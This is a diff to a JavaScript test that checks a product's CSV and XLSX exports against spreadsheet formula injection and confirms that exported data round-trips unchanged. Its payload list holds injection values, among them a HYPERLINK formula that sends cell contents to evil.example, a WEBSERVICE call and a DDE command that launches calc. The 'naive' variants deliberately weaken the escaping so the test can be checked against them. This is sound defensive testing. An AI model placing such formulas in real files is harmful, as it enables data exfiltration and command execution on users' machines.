@@ -1,63 +1,26 @@
 import { randomUUID } from 'node:crypto';
 import { httpBar } from '../lib/http-bar.mjs';
+import { hostileLists } from '../lib/hostile-lists.mjs';
 import { download, importFile, uploadFile } from '../lib/import-files.mjs';
-import { unzip } from '../lib/zip-file.mjs';
+import { computing, csvRecords, liveCells } from '../lib/opened-exports.mjs';
 
 /** Starts that make a spreadsheet program compute, dial out or run something (OWASP CSV injection; ASVS 1.2.10). */
 const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''+", '=-+@'];
 const bodies = ['HYPERLINK("http://evil.example/?"&A1,"bấm")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.example")', ' phẩy, chấm; "nháy"'];
-const computing = /^[=+\-@\t\r\n\u0000＝＋－＠]/u;
-
-/** RFC 4180, written apart from the product's own reader. */
-function csvRecords(text) {
-  const records = [[]];
-  let cell = '';
-  let isQuoted = false;
-  for (let at = 0; at < text.length; at++) {
-    const sign = text[at];
-    if (isQuoted) {
-      if (sign === '"' && text[at + 1] === '"') cell += text[++at];
-      else if (sign === '"') isQuoted = false;
-      else cell += sign;
-    } else if (sign === '"') isQuoted = true;
-    else if (sign === ',' || sign === '\n') {
-      records.at(-1).push(cell.replace(/\r$/, ''));
-      cell = '';
-      if (sign === '\n') records.push([]);
-    } else cell += sign;
-  }
-  return records.filter((record) => record.length > 1);
-}
-
-/** Cells of a workbook that are not plain text or numbers, or that no quotation prefix protects. */
-function liveCells(file) {
-  const parts = unzip(file);
-  const styles = [...parts.get('xl/styles.xml').split('<cellXfs')[1].matchAll(/<xf [^>]*>/g)].map(([xf]) => xf.includes('quotePrefix="1"'));
-  const live = [];
-  for (const [name, xml] of parts) {
-    if (/calcChain|externalLink|vbaProject|connections/i.test(name)) live.push(name);
-    if (!name.startsWith('xl/worksheets/')) continue;
-    if (/<f[ >/]|<hyperlink|<oleObject|<legacyDrawing/.test(xml)) live.push(`${name} holds a formula or an object`);
-    for (const [, attributes, inside] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
-      const text = /<t[^>]*>(.*)<\/t>/s.exec(inside)?.[1];
-      if (text === undefined ? !/^<v>-?[\d.e+-]+<\/v>$/i.test(inside) : !attributes.includes('t="inlineStr"')) live.push(inside.slice(0, 80));
-      const style = Number(/ s="(\d+)"/.exec(` ${attributes}`)?.[1] ?? 0);
-      if (text !== undefined && computing.test(text) && !styles[style]) live.push(`unprotected ${text.slice(0, 60)}`);
-    }
-  }
-  return live;
-}
 
 export default httpBar({
   id: 'w4',
-  promise: 'No cell of an export computes in a spreadsheet program, and what is exported comes in again as it was',
+  promise: 'No cell of any list that leaves as a file computes in a spreadsheet program, and what is exported comes in again as it was',
   naive: [
     [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => text;']],
     [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => /^[=]/.test(text) ? `\'${text}` : text;']],
     [['t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`;', '${text.startsWith("=") ? "><f>" + xmlText(text.slice(1)) + "</f></c>" : ` t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`}`;']],
+    [['quotePrefix=\\"1\\"', '']], // XLSX alone
+    [['column.kind === "number" ? text(column, row, language) : neutralCell(', 'column.kind === "number" || column.id === "note" ? text(column, row, language) : neutralCell(']], // CSV alone, a column that the register has not
+    [['id: "requestedBy",', 'id: "requestedBy", kind: "number",']], // one list among them, CSV and XLSX
     [['charCodeAt(0) === 39 && marked.test(text) ? text.slice(1) : text', 'charCodeAt(0) === 39 && marked.test(text) ? text : text']],
   ],
-  async check(product, { log }) {
+  async check(product, { log, isShort }) {
     const { database, person } = product;
     const office = await person('office');
     const mark = randomUUID().slice(0, 8);
@@ -78,7 +41,8 @@ export default httpBar({
       if (status !== 201 || body.counts.unchanged !== firms.length) wrong.push(`${format} comes in as ${status} ${JSON.stringify(body.counts ?? body.code)}`);
     }
     if (JSON.stringify(await stored()) !== JSON.stringify(before)) wrong.push('the round trip changed something');
+    const lists = await hostileLists(product, wrong, isShort);
     for (const line of wrong.slice(0, 20)) log(line);
-    return { pass: wrong.length === 0, figures: { firms: firms.length, cells: records.flat().length, wrong: wrong.length } };
+    return { pass: wrong.length === 0, figures: { firms: firms.length, cells: records.flat().length, ...lists, wrong: wrong.length } };
   },
 });
